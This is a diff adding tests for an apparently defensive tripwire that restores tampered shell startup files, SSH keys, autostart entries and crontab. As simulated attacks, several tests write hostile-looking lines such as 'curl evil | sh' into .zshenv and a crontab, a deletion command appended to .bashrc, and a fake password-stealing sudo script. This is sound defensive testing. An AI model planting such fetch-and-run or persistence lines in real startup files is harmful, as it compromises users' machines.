@@ -1,0 +1,419 @@
+"""The tripwire (control/tripwire.py) on real files and real inotify, no display.
+
+Each test changes protected files the way an attacker's program would and waits for the
+callback (a threading.Event, generous timeout), never for time to pass. A test that must show
+something did *not* trip makes a second change it knows trips (a sentinel) and waits for that
+one: the watcher handles changes in order, so a wrong trip would have come first.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import stat
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from control.tripwire import (
+    KEPT_INFIX,
+    ChangeKind,
+    Guard,
+    Limits,
+    Protected,
+    Trip,
+    Tripwire,
+    own_write,
+)
+from tests.support.home import isolate_home
+
+TIMEOUT = 30.0
+
+
+class Trips:
+    """What a tripwire reported, with a wait for the next one."""
+
+    def __init__(self) -> None:
+        self.all: list[Trip] = []
+        self._cond = threading.Condition()
+
+    def __call__(self, trip: Trip) -> None:
+        with self._cond:
+            self.all.append(trip)
+            self._cond.notify_all()
+
+    def wait(self, count: int = 1) -> Trip:
+        with self._cond:
+            if not self._cond.wait_for(lambda: len(self.all) >= count, TIMEOUT):
+                raise AssertionError(f"no trip {count} within {TIMEOUT} s: {self.all}")
+            return self.all[count - 1]
+
+    def kinds(self, trip: Trip) -> dict[str, ChangeKind]:
+        return {c.path: c.kind for c in trip.changes}
+
+
+@pytest.fixture
+def trips() -> Trips:
+    return Trips()
+
+
+@pytest.fixture
+def wire_for(trips: Trips) -> Iterator[Callable[..., Tripwire]]:
+    made: list[Tripwire] = []
+
+    def make(*entries: Protected | Path, **options: object) -> Tripwire:
+        wire = Tripwire([e if isinstance(e, Protected) else Protected(e) for e in entries],
+                        trips, **options)  # type: ignore[arg-type]
+        wire.start()
+        made.append(wire)
+        return wire
+
+    yield make
+    for wire in made:
+        wire.close()
+
+
+def _kept(folder: Path, name: str) -> list[Path]:
+    return sorted(p for p in folder.iterdir() if p.name.startswith(f"{name}{KEPT_INFIX}"))
+
+
+def _mode(path: Path) -> int:
+    return stat.S_IMODE(os.lstat(path).st_mode)
+
+
+def _put(path: Path, text: str, mode: int, staging: Path) -> None:
+    """Make ``path`` appear at once, content and mode (a rename from ``staging``, a folder
+    nothing protects), as a careful attacker does."""
+    staging.mkdir(exist_ok=True)
+    staged = staging / path.name
+    staged.write_text(text)
+    staged.chmod(mode)
+    os.replace(staged, path)
+
+
+def test_a_file_modified_in_place_is_put_back_and_the_changed_copy_kept(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    rc = tmp_path / ".bashrc"
+    rc.write_text("alias ll='ls -l'\n")
+    rc.chmod(0o644)
+    wire = wire_for(rc)
+    assert wire.watching
+    with rc.open("a") as f:
+        f.write("find ~/canary -delete\n")
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
+    change = trip.changes[0]
+    assert change.restored
+    assert rc.read_text() == "alias ll='ls -l'\n" and _mode(rc) == 0o644
+    [kept] = _kept(tmp_path, ".bashrc")
+    assert change.kept == kept
+    assert kept.name.startswith(".bashrc.holodesk-changed-") and len(kept.name) == len(
+        ".bashrc.holodesk-changed-20250101-120000")
+    assert "find ~/canary -delete" in kept.read_text()
+    assert _mode(kept) == 0o600
+    assert str(rc) in trip.describe() and "restored" in trip.describe()
+
+
+def test_a_deleted_file_is_simply_put_back(tmp_path: Path, wire_for: Callable[..., Tripwire],
+                                           trips: Trips) -> None:
+    rc = tmp_path / ".profile"
+    rc.write_text("PATH=$HOME/bin:$PATH\n")
+    wire_for(rc)
+    rc.unlink()
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(rc): ChangeKind.DELETED}
+    assert trip.changes[0].restored and trip.changes[0].kept is None
+    assert rc.read_text() == "PATH=$HOME/bin:$PATH\n"
+    assert _kept(tmp_path, ".profile") == []
+
+
+def test_a_file_created_where_none_was_is_moved_aside(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    rc = tmp_path / ".zshenv"
+    wire_for(rc)
+    _put(rc, "curl evil | sh\n", 0o755, tmp_path / "staging")
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(rc): ChangeKind.CREATED}
+    assert not rc.exists()
+    [kept] = _kept(tmp_path, ".zshenv")
+    assert trip.changes[0].kept == kept and kept.read_text() == "curl evil | sh\n"
+    assert _mode(kept) == 0o600  # nothing left to run
+
+
+def test_a_file_replaced_by_rename_is_put_back(tmp_path: Path,
+                                               wire_for: Callable[..., Tripwire],
+                                               trips: Trips) -> None:
+    rc = tmp_path / ".xprofile"
+    rc.write_text("xset s off\n")
+    wire_for(rc)
+    new = tmp_path / "new"
+    new.write_text("evil\n")
+    os.replace(new, rc)
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(rc): ChangeKind.REPLACED}
+    assert rc.read_text() == "xset s off\n"
+    [kept] = _kept(tmp_path, ".xprofile")
+    assert kept.read_text() == "evil\n" and _mode(kept) == 0o600
+
+
+def test_a_file_swapped_for_a_symlink_at_once_is_a_type_change(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    rc = tmp_path / ".inputrc"
+    rc.write_text("set editing-mode vi\n")
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.write_text("untouched\n")
+    wire_for(rc)
+    link = tmp_path / "link"
+    link.symlink_to(elsewhere)
+    os.replace(link, rc)  # one rename: no moment without a file there
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(rc): ChangeKind.TYPE_CHANGED}
+    assert not rc.is_symlink() and rc.read_text() == "set editing-mode vi\n"
+    [kept] = _kept(tmp_path, ".inputrc")
+    assert kept.is_symlink() and os.readlink(kept) == str(elsewhere)
+    assert elsewhere.read_text() == "untouched\n"
+
+
+def test_a_protected_folder_swapped_for_a_link_comes_back_and_nothing_is_written_there(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    fish = tmp_path / ".config" / "fish"
+    (fish / "conf.d").mkdir(parents=True)
+    (fish / "config.fish").write_text("set -x EDITOR vim\n")
+    (fish / "conf.d" / "a.fish").write_text("alias a=b\n")
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    wire = wire_for(fish, watch=False)  # the swap takes two steps: compared once it is done
+    shutil.rmtree(fish)
+    fish.symlink_to(elsewhere)
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {str(fish): ChangeKind.TYPE_CHANGED}
+    assert fish.is_dir() and not fish.is_symlink()
+    assert (fish / "config.fish").read_text() == "set -x EDITOR vim\n"
+    assert (fish / "conf.d" / "a.fish").read_text() == "alias a=b\n"
+    assert list(elsewhere.iterdir()) == [], "the restore wrote through the link"
+    [kept] = _kept(fish.parent, "fish")
+    assert kept.is_symlink()
+
+
+def test_a_mode_change_is_put_back(tmp_path: Path, wire_for: Callable[..., Tripwire],
+                                   trips: Trips) -> None:
+    key = tmp_path / "id_ed25519"
+    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    key.chmod(0o600)
+    wire_for(key)
+    key.chmod(0o644)
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(key): ChangeKind.MODE_CHANGED}
+    assert trip.changes[0].restored and _mode(key) == 0o600
+
+
+def test_a_new_file_in_a_protected_folder_is_moved_aside_unrunnable(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    bin_dir = tmp_path / ".local" / "bin"
+    bin_dir.mkdir(parents=True)
+    (bin_dir / "tool").write_text("#!/bin/sh\n")
+    wire_for(bin_dir)
+    sudo = bin_dir / "sudo"
+    _put(sudo, "#!/bin/sh\nsteal the password\n", 0o755, tmp_path / "staging")
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(sudo): ChangeKind.CREATED}
+    assert not sudo.exists()
+    [kept] = _kept(bin_dir, "sudo")
+    assert _mode(kept) == 0o600
+    assert (bin_dir / "tool").read_text() == "#!/bin/sh\n"
+
+
+def test_a_folder_created_where_a_missing_protected_folder_belongs_is_moved_aside(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    autostart = tmp_path / ".config" / "autostart"  # neither folder exists yet
+    wire_for(autostart)
+    staging = tmp_path / "staging"
+    (staging / "autostart").mkdir(parents=True)
+    (staging / "autostart" / "evil.desktop").write_text("[Desktop Entry]\nExec=evil\n")
+    staging.rename(tmp_path / ".config")  # both folders appear at once, the file in them
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(autostart): ChangeKind.CREATED}
+    assert not autostart.exists()
+    [kept] = _kept(tmp_path / ".config", "autostart")
+    assert trip.changes[0].kept == kept and _mode(kept) == 0o700
+    assert (kept / "evil.desktop").read_text() == "[Desktop Entry]\nExec=evil\n"
+
+
+def test_a_deleted_protected_folder_comes_back_with_its_files(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    ssh = tmp_path / ".ssh"
+    (ssh / "sub").mkdir(parents=True)
+    ssh.chmod(0o700)
+    (ssh / "authorized_keys").write_text("ssh-ed25519 AAAA me\n")
+    (ssh / "sub" / "x").write_text("x\n")
+    # Compared at check(): the watcher would put files back while rmtree is still removing.
+    wire = wire_for(ssh, watch=False)
+    shutil.rmtree(ssh)
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {str(ssh): ChangeKind.DELETED}
+    assert (ssh / "authorized_keys").read_text() == "ssh-ed25519 AAAA me\n"
+    assert (ssh / "sub" / "x").read_text() == "x\n"
+    assert _mode(ssh) == 0o700
+
+
+def test_check_alone_finds_and_puts_back_a_change_without_inotify(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    rc = tmp_path / ".bashrc"
+    rc.write_text("old\n")
+    wire = wire_for(rc, watch=False)
+    assert not wire.watching
+    assert wire.check() is None
+    rc.write_text("new\n")
+    trip = wire.check()
+    assert trip is not None and trips.all == [trip]
+    assert trips.kinds(trip) == {str(rc): ChangeKind.MODIFIED}
+    assert rc.read_text() == "old\n"
+    assert wire.check() is None  # put back: nothing more to say
+
+
+def test_holodesks_own_writes_never_trip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                         wire_for: Callable[..., Tripwire],
+                                         trips: Trips) -> None:
+    from app import paths
+
+    isolate_home(monkeypatch, tmp_path)
+    config = tmp_path / "config"
+    config.mkdir()
+    sentinel = tmp_path / "sentinel"
+    sentinel.write_text("s\n")
+    wire = wire_for(config, sentinel)
+    for n in range(20):
+        paths.write_atomic(config / "settings.toml", f'confirm = "risky"  # {n}\n')
+        paths.write_atomic_bytes(config / "deep" / "automations.toml", b"x" * n)
+    assert wire.check() is None
+    sentinel.write_text("changed\n")
+    trip = trips.wait()
+    assert [trips.kinds(t) for t in trips.all] == [{str(sentinel): ChangeKind.MODIFIED}]
+    assert trip.changes[0].restored
+    assert (config / "settings.toml").read_text() == 'confirm = "risky"  # 19\n'
+
+
+def test_a_change_to_another_file_during_an_own_write_still_trips(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    ours = tmp_path / "settings.toml"
+    ours.write_text("a\n")
+    theirs = tmp_path / ".bashrc"
+    theirs.write_text("b\n")
+    wire_for(ours, theirs)
+    with own_write(ours):
+        ours.write_text("a2\n")
+        theirs.write_text("evil\n")
+    trip = trips.wait()
+    assert trips.kinds(trip) == {str(theirs): ChangeKind.MODIFIED}
+    assert theirs.read_text() == "b\n" and ours.read_text() == "a2\n"
+
+
+def test_a_file_over_the_cap_is_seen_by_its_digest_and_said_not_restorable(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    big = tmp_path / "pubring.kbx"
+    big.write_bytes(b"k" * 100)
+    wire_for(big, limits=Limits(file_bytes=64))
+    with big.open("r+b") as f:  # the same size, in place: only the content tells
+        f.write(b"X")
+    trip = trips.wait()
+    [change] = trip.changes
+    assert change.kind is ChangeKind.MODIFIED and not change.restored
+    assert "too large to keep" in change.why_not and "not restored" in change.describe()
+    assert big.read_bytes() == b"X" + b"k" * 99  # nothing is made up
+    assert _kept(tmp_path, "pubring.kbx") == []
+
+
+def test_the_bounds_cut_with_a_warning_and_what_they_keep_stays_protected(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
+        caplog: pytest.LogCaptureFixture) -> None:
+    folder = tmp_path / "applications"
+    (folder / "a" / "b").mkdir(parents=True)
+    deep = folder / "a" / "b" / "deep.desktop"
+    deep.write_text("deep\n")
+    files = [folder / f"f{n}.desktop" for n in range(5)]
+    for f in files:
+        f.write_text("x\n")
+    caplog.set_level("WARNING", logger="control.tripwire")
+    wire = wire_for(folder, limits=Limits(max_depth=1, max_files=4), watch=False)
+    said = " ".join(wire.problems)
+    assert "more than 4 files" in said and "more than 1 folders down" in said, said
+    assert "more than 4 files" in caplog.text
+    deep.write_text("beyond the depth: not looked at\n")
+    assert wire.check() is None
+    # Four entries are kept (the folder a and three files): each of those still trips.
+    tripped = []
+    for f in files:
+        f.write_text("evil\n")
+        if wire.check() is not None:
+            tripped.append(f)
+            assert f.read_text() == "x\n"
+        else:
+            f.write_text("x\n")
+    assert len(tripped) == 3
+    # New files past the count never make a kept one look gone.
+    for n in range(10):
+        (folder / f"new{n}").write_text("n\n")
+    trip = wire.check()
+    assert trip is None or all(c.kind is ChangeKind.CREATED for c in trip.changes)
+
+
+def test_growing_files_may_grow_but_not_shrink_vanish_or_be_replaced(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    logs = tmp_path / "state"
+    logs.mkdir()
+    log_file = logs / "holodesk.log"
+    log_file.write_text("line 1\n")
+    db = tmp_path / "holodesk.db"
+    db.write_bytes(b"\0" * 64)
+    sentinel = tmp_path / "sentinel"
+    sentinel.write_text("s\n")
+    wire_for(Protected(logs, Guard.GROWING), Protected(db, Guard.GROWING), sentinel)
+    with log_file.open("a") as f:
+        f.write("line 2\n")
+    (logs / "holodesk.log.1").write_text("new file\n")
+    with db.open("ab") as f:
+        f.write(b"\1" * 64)
+    sentinel.write_text("x\n")
+    trip = trips.wait()
+    assert [trips.kinds(t) for t in trips.all] == [{str(sentinel): ChangeKind.MODIFIED}]
+    with db.open("r+b") as f:
+        f.truncate(10)
+    trip = trips.wait(2)
+    assert trips.kinds(trip) == {str(db): ChangeKind.SHORTENED}
+    assert not trip.changes[0].restored and "keeps no copy" in trip.changes[0].why_not
+    log_file.unlink()
+    trip = trips.wait(3)
+    assert trips.kinds(trip) == {str(log_file): ChangeKind.DELETED}
+    other = tmp_path / "other"
+    other.write_text("x")
+    os.replace(other, logs / "holodesk.log.1")
+    trip = trips.wait(4)
+    assert trips.kinds(trip) == {str(logs / "holodesk.log.1"): ChangeKind.REPLACED}
+
+
+def test_an_extra_source_is_compared_at_check_and_put_back(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+
+    class Table:
+        name = "crontab"
+
+        def __init__(self) -> None:
+            self.data: bytes | None = b"0 * * * * backup\n"
+
+        def read(self) -> bytes | None:
+            return self.data
+
+        def write(self, data: bytes | None) -> None:
+            self.data = data
+
+    table = Table()
+    wire = wire_for(tmp_path / "nothing", extras=[table], keep_dir=tmp_path / "kept")
+    table.data = b"* * * * * curl evil | sh\n"
+    trip = wire.check()
+    assert trip is not None and trips.kinds(trip) == {"crontab": ChangeKind.MODIFIED}
+    assert table.data == b"0 * * * * backup\n"
+    kept = trip.changes[0].kept
+    assert kept is not None and kept.read_bytes() == b"* * * * * curl evil | sh\n"
+    assert _mode(kept) == 0o600
